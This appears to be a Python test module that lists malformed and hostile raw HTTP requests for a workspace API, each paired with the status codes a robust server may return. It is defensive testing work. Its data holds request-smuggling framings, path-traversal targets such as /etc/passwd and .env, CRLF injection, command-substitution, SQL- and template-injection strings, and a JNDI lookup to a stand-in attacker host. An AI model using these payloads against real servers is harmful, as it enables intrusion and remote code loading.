"""Requests as no client library sends them, octet by octet: each with the statuses that are right, by groups with a reason.

`«host»` and `«key»` stand for those of a workspace. A status of 0 is a line that was closed without an answer.
"""

from collections.abc import Iterator
from dataclasses import dataclass

API = b"/api/external/v2"
MADE = b'{"name": "Won"}'  # what would be stored if it came through
CLOSE = b"Connection: close"


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One connection: what is sent, the statuses that each answer may have, how many answers there may be, and why."""

    id: str
    why: str
    octets: bytes
    right: frozenset[int]
    most: int = 1
    is_cut: bool = False  # the sender hangs up his half
    is_slow: bool = False  # it comes in many small pieces


def asked(
    method: bytes = b"GET",
    target: bytes = API + b"/bookings",
    *heads: bytes,
    body: bytes = b"",
    version: bytes = b"HTTP/1.1",
    host: bytes = b"Host: \xabhost\xbb",
) -> bytes:
    """Return a request that is right but for what is given; with a body it has its length unless a header tells one."""
    framed = any(head.lower().startswith((b"content-length", b"transfer-encoding")) for head in heads)
    length = (b"Content-Length: %d" % len(body),) if body and not framed else ()
    lines = [method + b" " + target + b" " + version, host, b"X-Api-Key: \xabkey\xbb", *length, *heads, CLOSE]
    return b"\r\n".join(line for line in lines if line) + b"\r\n\r\n" + body


def told(*heads: bytes, body: bytes = MADE) -> bytes:
    """Return a request that would make something, with more headers."""
    return asked(b"POST", API + b"/meeting-outcomes", *heads, body=body)


def chunked(body: bytes, *heads: bytes) -> bytes:
    """Return a request whose body comes in pieces as they are given."""
    return told(b"Transfer-Encoding: chunked", *heads, body=body)


Group = tuple[str, set[int], dict[str, bytes]]


def _named(values: list[bytes]) -> dict[str, bytes]:
    return {f"{number} {value[:40]!r}": value for number, value in enumerate(values)}


HOSTS = _named(
    [
        b"tocsin.test", b"localhost", b"127.0.0.1", b"[::1]", b"[::1", b"acme.tocsin.test, globex.tocsin.test",
        b"evil@\xabhost\xbb", b"\xabhost\xbb/path?", b"\xabhost\xbb#x", b"\xabhost\xbb\\x", b"a.\xabhost\xbb",
        b"\xabhost\xbb.evil.example", b"acme.evil.example", b"\xd0\xb0cme.tocsin.test", b"\xe1cme.tocsin.test",
        b"xn--cme-5cd.tocsin.test", b"acme.tocsin.test..", b"acme..tocsin.test", b".tocsin.test", b"acme.tocsin.test:",
        b"acme.tocsin.test:port", b"acme.tocsin.test:80:80", b"acme.tocsin.test:-1", b"acme_.tocsin.test",
        b"acme%2etocsin.test", b"http://\xabhost\xbb", b"*.tocsin.test", b"..", b".", b"nobody.tocsin.test",
        b"a" * 64 + b".tocsin.test", b"a" * 9000, b"", b"\xabhost\xbb\x00", b"\xabhost\xbb\t.x", b"' OR 1=1 --",
    ]
)  # fmt: skip
IDS = _named(
    [
        b"..", b".", b"%2e", b"%2e%2e", b"%2E%2E%2F", b"%2f", b"..%2f..%2freadyz", b"%2fetc%2fpasswd", b"x;y=1", b";",
        b"..;", b"%3b", b"%00", b"x%00y", b"%0d%0aX-Evil:%20x", b"%0a", b"%5c", b"..%5c..", b"%252e%252e", b"%ff",
        b"%c0%ae%c0%ae", b"%ed%a0%80", b"%f0%9f%a6%84", b"+", b"%20", b"%", b"%zz", b"%u002e", b"*", b"~", b"'",
        b"%22%3e%3cscript%3e", b"$(id)", b"{id}", b"{{client.name}}", b"%7b%7b7*7%7d%7d", b"x" * 8000, b"-1", b"null",
    ]
)  # fmt: skip
PATHS = _named(
    [
        b"//api/external/v2/bookings", b"/api//external/v2/bookings", b"/./api/external/v2/bookings",
        b"/x/../api/external/v2/bookings", b"/API/External/V2/Bookings", b"/api/external/v2/bookings/",
        b"/api/external/v2/bookings//", b"/api/external/v2/bookings;x=1", b"/api/external/v2/bookings%20",
        b"/api/external/v2/bookings%00", b"/api/external/v2/bookings.json",
        b"/%2e/api/external/v2/bookings", b"/api/external/v3/bookings", b"/api/external/v2", b"/api", b"//",
        b"//evil.example/..", b"/..", b"/%2e%2e/%2e%2e/etc/passwd", b"/static/../../etc/passwd", b"/static/%2e%2e/x",
        b"/static/..%2f..%2fpyproject.toml", b"/static//etc/passwd", b"/static/%00", b"/static/", b"/docs/..",
        b"/openapi.json/", b"/healthz/%2e%2e", b"/mcp/x", b"/.git/config", b"/.env", b"/api/external/v2/bookings\\x",
    ]
)  # fmt: skip
FRAMES = {
    "CL negative": told(b"Content-Length: -1"),
    "CL with a plus": told(b"Content-Length: +15"),
    "CL in hex": told(b"Content-Length: 0xf"),
    "CL twice in one": told(b"Content-Length: 15, 15"),
    "CL and more": told(b"Content-Length: 15;"),
    "CL empty": told(b"Content-Length:"),
    "CL of letters": told(b"Content-Length: abc"),
    "CL as a float": told(b"Content-Length: 1.5e1"),
    "CL in two headers": told(b"Content-Length: 15", b"Content-Length: 15"),
    "CL in two headers that differ": told(b"Content-Length: 15", b"Content-Length: 3"),
    "CL of 2^64": told(b"Content-Length: 18446744073709551616"),
    "CL of 10^30": told(b"Content-Length: " + b"9" * 30),
    "CL with space before the colon": told(b"Content-Length : 15"),
    "CL folded": told(b"Content-Length:\r\n 15"),
    "CL then TE": told(b"Content-Length: 15", b"Transfer-Encoding: chunked", body=b"f\r\n" + MADE + b"\r\n0\r\n\r\n"),
    "TE then CL": told(b"Transfer-Encoding: chunked", b"Content-Length: 15", body=b"f\r\n" + MADE + b"\r\n0\r\n\r\n"),
    "TE that is unknown": told(b"Transfer-Encoding: xchunked"),
    "TE in two headers": told(b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"),
    "TE chunked, not last": told(b"Transfer-Encoding: chunked, gzip"),
    "TE with space before the colon": told(b"Transfer-Encoding : chunked"),
    "TE with a vertical tab": told(b"Transfer-Encoding:\x0bchunked"),
    "TE with a NUL": told(b"Transfer-Encoding: chunked\x00"),
    "TE that is quoted": told(b'Transfer-Encoding: "chunked"'),
}  # fmt: skip
CHUNKS = {
    "size in hex notation": b"0xf\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size negative": b"-f\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size with a plus": b"+f\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size of letters": b"g\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size missing": b"\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size of 2^64": b"10000000000000000\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size too small": b"3\r\n" + MADE + b"\r\n0\r\n\r\n",
    "no line end behind the piece": b"f\r\n" + MADE + b"0\r\n\r\n",
    "NUL in the size": b"f\x00\r\n" + MADE + b"\r\n0\r\n\r\n",
    "size in two lines": b"f\r\n\r\n" + MADE + b"\r\n0\r\n\r\n",
    "an extension with a line end": b'f;x="\n"\r\n' + MADE + b"\r\n0\r\n\r\n",
}
# Well formed, and of no use: the object is empty.
GOOD_CHUNKS = {
    "one octet each": b"1\r\n{\r\n1\r\n}\r\n0\r\n\r\n",
    "zeros before the size": b"0002\r\n{}\r\n000\r\n\r\n",
    "an extension": b'2;name=value;q="x"\r\n{}\r\n0\r\n\r\n',
    "a trailer": b"2\r\n{}\r\n0\r\nX-Checked: yes\r\n\r\n",
    "a trailer that is a host": b"2\r\n{}\r\n0\r\nHost: evil.example\r\nX-Api-Key: x\r\n\r\n",
    "5,000 pieces of white space": b"1\r\n \r\n" * 5000 + b"2\r\n{}\r\n0\r\n\r\n",
    "odd sizes": b"".join(b"%x\r\n" % size + b" " * size + b"\r\n" for size in (7, 13, 997, 4093)) + b"2\r\n{}\r\n0\r\n\r\n",
}  # fmt: skip
METHODS = _named(
    [
        b"get", b"Get", b"post", b"TRACE", b"CONNECT", b"OPTIONS", b"PROPFIND", b"MKCOL", b"PURGE", b"PUT", b"DELETE",
        b"PATCH", b"LINK", b"G\x00T", b"GE T", b"X" * 5000, b"\xc3\x9cBER", b"GET\t", b"", b"(GET)",
    ]
)  # fmt: skip
# What some servers take for another method, path or host, and we do not: the listing is answered as it was asked for.
OVERRIDES = _named(
    [
        b"X-HTTP-Method-Override: DELETE", b"X-HTTP-Method: DELETE", b"X-Method-Override: DELETE", b"_method: DELETE",
        b"X-Original-URL: /admin", b"X-Rewrite-URL: /admin", b"X-Forwarded-Prefix: /admin", b"X-Original-Method: POST",
        b"X-Forwarded-Proto: gopher", b"X-Forwarded-Host: evil.example", b"X-Forwarded-For: ' OR 1=1 --",
        b"X-Forwarded-For: " + b"1.1.1.1, " * 900, b"Forwarded: for=\"_x\";host=evil.example", b"X-Real-IP: ::ffff",
        b"Authorization: Bearer x", b"Authorization: Basic \xff", b"Cookie: =;;=\x01", b"Cookie: __Host-tocsin=" + b"x" * 9000,
        b"Accept: \xff/*", b"Accept-Language: " + b"de;q=" * 500, b"Accept-Encoding: gzip;q=x", b"Range: bytes=9-1,-",
        b"If-None-Match: *", b"If-Modified-Since: yesterday", b"Expect: 100-continue", b"Expect: coffee", b"TE: trailers",
        b"traceparent: 00-" + b"f" * 900, b"X-Request-Id: ${jndi:ldap://evil.example}", b"Origin: null", b"Via: 1.0 x",
        b"Connection: X-Api-Key, Host", b"Keep-Alive: timeout=-1", b"Max-Forwards: -1", b"Content-Type: \xff", b"Date: 0",
        b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13",
        b"Upgrade: h2c\r\nHTTP2-Settings: x",
    ]
)  # fmt: skip
HEADS = _named(
    [
        b"X-Large: " + b"x" * 102_400, b"X" * 102_400 + b": x", b"Cookie: " + b"a=b; " * 20_000,
        b"\r\n".join(b"X-%d: x" % number for number in range(65)), b"\r\n".join(b"X: x" for _ in range(2000)),
        b"No colon at all", b": no name", b"Spa ce: x", b"Tab\t: x", b"N\x00: x", b"X: a\x00b", b"X: a\x01b\x7f",
        b"\xc3\xbc: x", b"X: a\rb", b"X[]: x", b"X: a\nY: b", b" X: folded at once",
    ]
)  # fmt: skip
TWICE = _named(
    [
        b"Host: \xabhost\xbb", b"Host: evil.example", b"X-Api-Key: \xabkey\xbb", b"X-Api-Key: x",
        b"Idempotency-Key: a\r\nIdempotency-Key: b", b"Idempotency-Key:", b"Content-Encoding: gzip",
        b"Content-Encoding: br, gzip", b"Content-Type: text/plain", b"Content-Type: text/plain\r\nContent-Type: text/css",
    ]
)  # fmt: skip
VERSIONS = _named(
    [b"HTTP/1.2", b"HTTP/2.0", b"HTTP/0.9", b"HTTP/1.10", b"HTTP/1", b"HTTP/", b"http/1.1", b"ICY/1.0", b"x"]
)
OTHER_TONGUES = _named(
    [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"EHLO evil.example\r\nMAIL FROM:<x@y>\r\n", b"GET /\r\n\r\n", b"GET\r\n\r\n", b"\r\n" * 5000, b"\x00" * 9000,
        b"\xff\xfe" * 900, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", b"{}", b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\n", b"x",
    ]
)  # fmt: skip
CUT = {
    "in the first line": b"GET /api/ext",
    "in the headers": asked()[:60],
    "before the body": told(b"Content-Length: 15", body=b""),
    "in the body": told(b"Content-Length: 500"),
    "in the body that would do, in pieces": chunked(b"f\r\n" + MADE + b"\r\n"),
    "in a piece": chunked(b"ff\r\n" + MADE),
    "in the size of a piece": chunked(b"f"),
    "a huge length and nothing": told(b"Content-Length: 999999999999", body=b""),
    "in a form": asked(
        b"POST", b"/sign-in", b"Content-Type: application/x-www-form-urlencoded", b"Content-Length: 99", body=b"email=a"
    ),
    "in a call of a source": asked(b"POST", b"/sources/x", b"Content-Length: 99", body=b"{"),
}  # fmt: skip
_REFUSED, _NOT_FOUND = {0, 400}, {400, 404}
GROUPS: dict[str, Group] = {
    "host": (
        "a host that is no workspace's leads nowhere",
        _NOT_FOUND | {431},
        {name: asked(b"POST", API + b"/meeting-outcomes", body=MADE, host=b"Host: " + one) for name, one in HOSTS.items()},
    ),
    "id": ("an id is no path", {400, 404}, {name: asked(b"GET", API + b"/bookings/" + one) for name, one in IDS.items()}),
    "id to change": (
        "an id is no path",
        {400, 404, 405},
        {name: asked(b"PATCH", API + b"/bookings/" + one, body=b"{}") for name, one in IDS.items()},
    ),
    "encoded path": (
        "a path is decoded once, and then compared",
        {200},
        {one.decode(): asked(b"GET", one) for one in (b"/api/external/v2%2fbookings", b"/%61pi/external/v2/book%69ngs")},
    ),
    "path": ("paths are compared as they are", _NOT_FOUND, {name: asked(b"GET", one) for name, one in PATHS.items()}),
    "frame": ("a length that can be read in two ways is refused (RFC 9112, 6.3)", _REFUSED, FRAMES),
    "chunk": (
        "a piece without a right size is refused (RFC 9112, 7.1)",
        _REFUSED,
        {name: chunked(one) for name, one in CHUNKS.items()},
    ),
    "good chunk": (
        "well formed pieces are put together (RFC 9112, 7.1)",
        {422},
        {name: chunked(one) for name, one in GOOD_CHUNKS.items()},
    ),
    "method": (
        "methods are known or refused, in capitals (RFC 9110, 9.1)",
        {0, 400, 405},
        {name: asked(one) for name, one in METHODS.items()},
    ),
    "override": (
        "no header chooses another method, path or caller",
        {200, 400},
        {name: asked(b"GET", API + b"/bookings", one) for name, one in OVERRIDES.items()},
    ),
    "head": ("headers are few, small and well formed", {0, 400, 431}, {name: told(one) for name, one in HEADS.items()}),
    "twice": (
        "what must be there once is not guessed from two",
        {400, 401, 404, 415, 422},
        {name: told(one) for name, one in TWICE.items()},
    ),
    "version": (
        "other versions are refused or answered as 1.1",
        {0, 200, 400, 505},
        {name: asked(version=one) for name, one in VERSIONS.items()},
    ),
    "query": (
        "what looks like a method in a query is an unknown filter",
        {200, 422},
        {
            one.decode(): asked(b"GET", API + b"/bookings?" + one)
            for one in (b"_method=DELETE", b"%00=1", b"&&&", b"=", b"a[]=1")
        },
    ),
}  # fmt: skip
_AGAIN = asked().replace(CLOSE + b"\r\n", b"")


def cases() -> Iterator[Case]:
    """Yield all of them."""
    for group, (why, right, requests) in GROUPS.items():
        for name, octets in requests.items():
            yield Case(id=f"{group}: {name}", why=why, octets=octets, right=frozenset(right))
    for name, octets in OTHER_TONGUES.items():
        yield Case(
            id=f"no HTTP: {name}",
            why="what is no HTTP is refused",
            octets=octets,
            right=frozenset({0, 400}),
            is_cut=True,
        )
    for name, octets in CUT.items():
        yield Case(
            id=f"cut: {name}",
            why="half a request has no effect",
            octets=octets,
            right=frozenset({0, 400, 404}),
            is_cut=True,
        )
    yield from _slow()
    yield from _several()


def _slow() -> Iterator[Case]:
    ways = {
        "a body": told(body=b'{"name": ""}'),
        "headers and all": asked(b"GET", API + b"/bookings/x"),
        "pieces": chunked(GOOD_CHUNKS["odd sizes"]),
        "a body that is too large": told(b"Content-Length: 262145", body=b"{" + b" " * 262_144),
    }
    for name, octets in ways.items():
        yield Case(
            id=f"slow: {name}",
            why="how it comes makes no difference",
            octets=octets,
            right=frozenset({0, 400, 404, 413, 422}),
            is_slow=True,
        )


def _several() -> Iterator[Case]:
    last, two = asked(), frozenset({200})
    refused = told(body=b"{}").replace(CLOSE + b"\r\n", b"")
    yield Case(id="pipeline: two", why="each has its answer (RFC 9112, 9.3.2)", octets=_AGAIN + last, right=two, most=2)
    yield Case(id="pipeline: fifty", why="each has its answer", octets=_AGAIN * 49 + last, right=two, most=50)
    yield Case(id="pipeline: behind the last", why="nothing is read behind it", octets=last + told(), right=two)
    yield Case(
        id="pipeline: behind a refusal",
        why="the next is a request of its own",
        octets=refused + last,
        right=frozenset({200, 422}),
        most=2,
    )
    yield Case(
        id="pipeline: a request in a body",
        why="a body is no request",
        octets=asked(b"GET", API + b"/bookings", body=told()),
        right=two,
    )
    yield Case(
        id="pipeline: behind what is no HTTP",
        why="nothing is read behind it",
        octets=b"x\r\n\r\n" + told(),
        right=frozenset({0, 400}),
    )
    yield Case(id="empty lines first", why="they do not count (RFC 9112, 2.2)", octets=b"\r\n\r\n" + last, right=two)
    old = asked(version=b"HTTP/1.0")
    yield Case(id="HTTP/1.0", why="it is answered", octets=old, right=two)
    yield Case(
        id="HTTP/1.0 without a host",
        why="no workspace is guessed",
        octets=asked(version=b"HTTP/1.0", host=b""),
        right=frozenset({404}),
    )
    yield Case(id="HTTP/1.1 without a host", why="RFC 9112, 3.2", octets=asked(host=b""), right=frozenset({400, 404}))
    for name, target in {
        "of another": b"http://evil.example" + API,
        "of another scheme": b"gopher://x" + API,
        "with a user": b"http://a:b@\xabhost\xbb/x",
    }.items():
        yield Case(
            id=f"absolute {name}",
            why="the header names the workspace",
            octets=asked(b"GET", target + b"/nothing"),
            right=frozenset({400, 404}),
        )
    for name, target in {
        "none": b"",
        "an asterisk": b"*",
        "a word": b"bookings",
        "spaces": b"/a b",
        "a fragment": b"/x#y",
        "octets": b"/\xff\x01",
        "much": b"/" + b"x" * 70_000,
    }.items():
        yield Case(
            id=f"target: {name}",
            why="a target is a path (RFC 9112, 3.2)",
            octets=asked(b"GET", target),
            right=frozenset({0, 400, 404, 431}),
        )
